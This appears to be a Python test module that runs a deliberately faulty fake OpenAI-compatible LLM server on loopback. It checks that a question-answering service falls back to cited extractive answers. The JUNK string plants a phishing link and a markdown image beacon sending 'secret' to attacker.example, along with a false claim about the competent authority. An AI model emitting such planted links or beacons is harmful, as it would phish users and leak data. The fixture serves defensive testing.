"""A fake OpenAI-compatible LLM server (down, slow, garbage) and the checks that the extractive fallback
answers."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx

from evals.reliability.injection import chat_answer, forbidden_in
from evals.reliability.servers import LOOPBACK


class FakeLLM:
    """An OpenAI-compatible server on loopback that misbehaves on purpose; ``mode`` picks how.

    - ``slow``: answers correctly but only after ``delay`` seconds;
    - ``garbage``: a 200 whose body is not JSON;
    - ``junk``: a well-formed completion whose text cites nothing and carries planted links and claims;
    - ``error``: a 500;
    - ``parrot``: a well-behaved model, at once: the first clause of the first evidence unit, in the
      language asked for, with that unit's id (what a model that stays close to its evidence writes).
    ``close()`` frees the port: then the LLM is down (connection refused).
    """

    JUNK = (
        "SEF is still in force and remains the competent authority. Book at "
        "[the portal](https://attacker.example/aima-login) ![x](https://attacker.example/pixel.png?q=secret) "
        "ACCESS GRANTED"
    )

    def __init__(self, mode: str = "slow", delay: float = 6.0) -> None:
        self.mode = mode
        self.delay = delay
        self.requests = 0
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:  # quiet
                pass

            def do_GET(self) -> None:
                self._send(200, json.dumps({"object": "list", "data": [{"id": "fake", "object": "model"}]}).encode())

            def do_POST(self) -> None:
                fake.requests += 1
                length = int(self.headers.get("content-length") or 0)
                request = json.loads(self.rfile.read(length) or b"{}")
                if fake.mode == "slow":
                    time.sleep(fake.delay)
                    return self._completion("Nothing [dl-252-2000/art-1].", request)
                if fake.mode == "parrot":
                    return self._completion(parrot(request), request)
                if fake.mode == "garbage":
                    return self._send(200, b'{"choices": [{"message": {"content": "unterminated', "application/json")
                if fake.mode == "error":
                    return self._send(500, b'{"error": {"message": "boom"}}', "application/json")
                return self._completion(fake.JUNK, request)

            def _completion(self, text: str, request: dict[str, Any]) -> None:
                if request.get("stream"):
                    chunk = {
                        "id": "x",
                        "object": "chat.completion.chunk",
                        "created": 0,
                        "model": "fake",
                        "choices": [
                            {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}
                        ],
                    }
                    end = {**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
                    body = f"data: {json.dumps(chunk)}\n\ndata: {json.dumps(end)}\n\ndata: [DONE]\n\n".encode()
                    return self._send(200, body, "text/event-stream")
                reply = {
                    "id": "x",
                    "object": "chat.completion",
                    "created": 0,
                    "model": "fake",
                    "choices": [
                        {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
                    ],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                }
                self._send(200, json.dumps(reply).encode(), "application/json")

            def _send(self, status: int, body: bytes, kind: str = "application/json") -> None:
                with contextlib.suppress(OSError):
                    self.send_response(status)
                    self.send_header("content-type", kind)
                    self.send_header("content-length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)

        self.httpd = ThreadingHTTPServer((LOOPBACK, 0), Handler)
        self.httpd.daemon_threads = True
        self.port = int(self.httpd.server_address[1])
        self.base_url = f"http://{LOOPBACK}:{self.port}/v1"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def parrot(request: dict[str, Any]) -> str:
    """The first clause of evidence unit [1], in the language the prompt asks for, citing its id."""
    messages = request.get("messages") or [{}]
    prompt = str(messages[-1].get("content", ""))
    block = prompt.split("[1] id: ", 1)[-1].split("\n\n", 1)[0].splitlines() if "[1] id: " in prompt else []
    wanted = "English" if "Answer in English" in prompt else "português"
    texts = ("authentic", "autêntico", "unofficial", "não oficial")  # the unit's text and rendering, no lead-in
    lines = [line for line in block[1:] if any(t in line.split(": ", 1)[0] for t in texts)]
    if not lines:
        return "I don't know: the evidence provided does not answer this question."
    line = next((x for x in lines if wanted in x.split(": ", 1)[0]), lines[-1])
    clause = line.split(": ", 1)[1].split(";")[0].rstrip(" .…")
    return f"{clause} [{block[0].strip()}]."


FALLBACK_MARKERS = ("could not be verified", "Não foi possível verificar")


def llm_fault_checks(base: str, label: str) -> dict[str, Any]:
    """One question through /api/ask, /api/ask/stream and /v1: the extractive answer with the fallback
    notice, in time, with nothing the fake model wrote."""
    question = "Who grants residence permits?"
    out: dict[str, Any] = {"mode": label}
    with httpx.Client(base_url=base, timeout=60) as client:
        started = time.monotonic()
        ask = client.post("/api/ask", json={"question": question})
        out["ask_s"] = round(time.monotonic() - started, 2)
        answer = ask.json()
        started = time.monotonic()
        stream = client.post("/api/ask/stream", json={"question": question}).text
        out["stream_s"] = round(time.monotonic() - started, 2)
        started = time.monotonic()
        chat = chat_answer(client, question)
        out["chat_s"] = round(time.monotonic() - started, 2)
    done = _sse_done(stream)
    out.update(
        status=ask.status_code,
        abstained=answer.get("abstained"),
        cited=[c["id"] for c in answer.get("citations", [])],
        notice=any(m in n for n in answer.get("notices", []) for m in FALLBACK_MARKERS),
        stream_notice=any(m in n for n in (done or {}).get("notices", []) for m in FALLBACK_MARKERS),
        chat_notice=any(m in n for n in chat["notices"] for m in FALLBACK_MARKERS),
        leaked=sorted(
            set(forbidden_in(answer, ()) + forbidden_in(chat, ()) + (forbidden_in(done, ()) if done else []))
        ),
    )
    return out


def _sse_done(stream: str) -> dict[str, Any] | None:
    for block in stream.split("\n\n"):
        if block.startswith("event: done\n"):
            return dict(json.loads(block.split("data: ", 1)[1]))
    return None
